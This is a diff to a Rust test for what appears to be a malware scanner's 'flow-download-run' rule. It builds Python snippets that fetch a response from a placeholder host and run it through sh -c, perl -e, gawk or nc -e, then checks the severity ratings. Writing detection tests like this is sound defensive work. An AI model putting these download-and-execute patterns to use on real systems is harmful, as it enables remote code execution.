@@ -317,16 +317,21 @@ fn what_a_model_that_is_paid_for_is_asked_is_asked_for() {
 
 #[test]
 fn programs_that_are_looked_for_by_name_are_those() {
-    let code = |program: &str| {
+    let code = |begins: &str, program: &str| {
         format!(
-            "import requests, shutil, subprocess\nr = requests.get('https://h.invalid/next').text\n\
+            "import requests, shutil, subprocess\n{begins}\n    r = requests.get('https://h.invalid/next').text\n    \
              subprocess.run([{program}, r])"
         )
     };
-    let run = |program: &str| weight(Language::Python, &code(program), "flow-download-run");
-    assert_eq!(run("shutil.which('iptables'), '-s'"), run("'iptables', '-s'"));
-    assert!(run("shutil.which('sh'), '-c'") >= Some(Severity::High));
-    assert!(run("shutil.which('iptables'), '-s'") < run("shutil.which('sh'), '-c'"));
+    let run = |begins: &str, program: &str| weight(Language::Python, &code(begins, program), "flow-download-run");
+    let called = |program: &str| run("def go():", program);
+    assert_eq!(called("shutil.which('iptables'), '-s'"), called("'iptables', '-s'"));
+    assert_eq!(called("'iptables', '-s'"), Some(Severity::Medium));
+    for starter in ["shutil.which('sh'), '-c'", "'perl5.36', '-e'", "'gawk'", "'nc', '-e'"] {
+        assert!(called(starter) >= Some(Severity::High), "{starter}");
+    }
+    // Nobody asked for what runs when it is loaded.
+    assert!(run("if True:", "'iptables', '-s'") >= Some(Severity::High));
 }
 
 #[test]
